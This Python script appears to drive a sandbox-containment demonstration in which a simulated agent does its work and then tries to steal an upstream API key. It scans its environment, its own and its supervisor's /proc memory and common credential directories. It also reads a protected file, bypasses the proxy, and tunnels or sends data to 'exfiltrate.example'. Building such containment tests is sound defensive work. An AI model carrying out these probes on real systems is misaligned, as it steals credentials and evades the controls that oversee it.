"""The agent: a program that wants to do its work, and then wants the key.

It runs in the sandbox as a script and knows nothing of the demonstration but its environment. Each
thing it tries is reported as one line of JSON.
"""

import base64
import http.client
import json
import os
import re
import socket
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Callable, Iterable, Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

#: What keys of the upstream look like. Everybody knows that; it is no secret.
KEY = re.compile(rb"sk-demo-[0-9a-f]{32}")

Report = dict[str, object]


def plain_answer() -> Report:
    """Ask with the SDK, configured by nothing but the environment."""
    from openai import OpenAI

    reply = OpenAI(max_retries=0).chat.completions.create(model="demo", messages=_QUESTION)
    return {"text": reply.choices[0].message.content}


def streamed_answer() -> Report:
    """Ask the same, and note each token with the time at which it came."""
    from openai import OpenAI

    began = time.monotonic()
    tokens, arrivals = [], []
    client = OpenAI(max_retries=0)
    for event in client.chat.completions.create(model="demo", messages=_QUESTION, stream=True):
        if event.choices[0].delta.content:
            tokens.append(event.choices[0].delta.content)
            arrivals.append(round((time.monotonic() - began) * 1000))
    return {"tokens": tokens, "arrivals_ms": arrivals}


_QUESTION: list[Any] = [{"role": "user", "content": "Where is the key?"}]


def key_in_environment() -> Report:
    """Look through the own environment."""
    found = [name for name, value in os.environ.items() if KEY.search(value.encode())]
    return {"found": found, "searched": len(os.environ)}


def key_in_own_memory() -> Report:
    """Look through everything of this process that `/proc` shows."""
    return _search(Path("/proc/self", name) for name in ("environ", "cmdline", "maps", "mem"))


def key_in_supervisor() -> Report:
    """Look through what `/proc` shows of the process that has the key."""
    supervisor = Path("/proc", str(os.getppid()))
    return _search(supervisor / name for name in ("environ", "cmdline", "maps", "mem"))


def key_in_files() -> Report:
    """Look through the files at the places where keys are kept."""
    places = [Path.cwd(), Path.cwd().parent, Path.home(), Path("/tmp"), Path("/root")]  # noqa: S108
    places += [Path("/home"), Path("/run"), Path("/var"), Path(os.environ["DEMO_OUTSIDE"]).parent]
    closed: list[OSError] = []
    report = _search(file for place in places for file in _files(place, closed.append))
    return {**report, "denied": len(closed)}


def read_outside() -> Report:
    """Read the file that holds the key, by its exact name."""
    return {"text": Path(os.environ["DEMO_OUTSIDE"]).read_text()}


def connect_directly() -> Report:
    """Go to the upstream without the proxy."""
    with socket.create_connection(("127.0.0.1", int(os.environ["DEMO_UPSTREAM"])), timeout=5):
        return {"connected": True}


def tunnel_to_upstream() -> Report:
    """Ask the proxy for a tunnel to the upstream, past its route."""
    return {"status": _connect(f"localhost:{os.environ['DEMO_UPSTREAM']}")}


def tunnel_elsewhere() -> Report:
    """Ask the proxy for a tunnel to a host that is not allowed."""
    return {"status": _connect("exfiltrate.example:443")}


def plain_elsewhere() -> Report:
    """Ask the proxy for a plain `http` request to a host that is not allowed."""
    try:
        with urllib.request.urlopen("http://exfiltrate.example/?data=1", timeout=5) as reply:
            return {"status": reply.status}
    except urllib.error.HTTPError as error:
        return {"status": error.code}


def route_without_token() -> Report:
    """Use the route with a made-up key instead of the token."""
    from openai import APIStatusError, OpenAI

    try:
        client = OpenAI(max_retries=0, api_key="sk-made-up")
        client.chat.completions.create(model="demo", messages=_QUESTION)
    except APIStatusError as error:
        return {"status": error.status_code}
    return {"status": 200}


ATTEMPTS: list[Callable[[], Report]] = [
    plain_answer,
    streamed_answer,
    key_in_environment,
    key_in_own_memory,
    key_in_supervisor,
    key_in_files,
    read_outside,
    connect_directly,
    tunnel_to_upstream,
    tunnel_elsewhere,
    plain_elsewhere,
    route_without_token,
]


def _connect(target: str) -> int:
    proxy = urlsplit(os.environ["HTTPS_PROXY"])
    login = base64.b64encode(f"{proxy.username}:{proxy.password}".encode()).decode()
    connection = http.client.HTTPConnection(proxy.hostname or "", proxy.port, timeout=5)
    headers = {"Host": target, "Proxy-Authorization": f"Basic {login}"}
    connection.request("CONNECT", target, headers=headers)
    return connection.getresponse().status


def _search(files: Iterable[Path]) -> Report:
    searched, denied, found = 0, 0, []
    for file in files:
        try:
            content = _memory(file) if file.name == "mem" else file.read_bytes()
        except OSError:
            denied += 1
            continue
        searched += 1
        if KEY.search(content):
            found.append(str(file))
    return {"found": found, "searched": searched, "denied": denied}


def _memory(file: Path) -> bytes:
    """Every readable page of a process, by its `/proc/PID/mem`."""
    pages = []
    with file.with_name("maps").open() as maps, file.open("rb", buffering=0) as memory:
        for line in maps:
            span, rights = line.split()[:2]
            if rights.startswith("r"):
                start, end = (int(bound, 16) for bound in span.split("-"))
                with suppress(OSError, OverflowError):
                    memory.seek(start)
                    pages.append(memory.read(end - start))
    return b"".join(pages)


def _files(place: Path, on_closed: Callable[[OSError], object]) -> Iterator[Path]:
    for directory, _, names in os.walk(place, onerror=on_closed):
        for name in names:
            file = Path(directory, name)
            with suppress(OSError):
                if file.is_file() and file.stat().st_size < 1 << 20:
                    yield file


def _try(attempt: Callable[[], Report]) -> Report:
    try:
        return {"attempt": attempt.__name__, **attempt()}
    except OSError as error:
        errno = error.errno
        return {"attempt": attempt.__name__, "error": type(error).__name__, "errno": errno}
    except Exception as error:
        return {"attempt": attempt.__name__, "error": f"{type(error).__name__}: {error}"}


def main() -> None:
    """Try everything, report each, and wait to be looked at before leaving."""
    stage = os.environ.get("DEMO_STAGE")
    if stage:
        os.dup2(os.open(f"{stage}/reports", os.O_WRONLY), sys.stdout.fileno())
    for attempt in ATTEMPTS:
        print(json.dumps(_try(attempt)), flush=True)
    print(json.dumps({"attempt": "inspect", "pid": os.getpid()}), flush=True)
    if stage:
        # Opening a FIFO waits for its other end: the supervisor has looked at our memory then.
        Path(stage, "inspected").read_bytes()


if __name__ == "__main__":
    main()
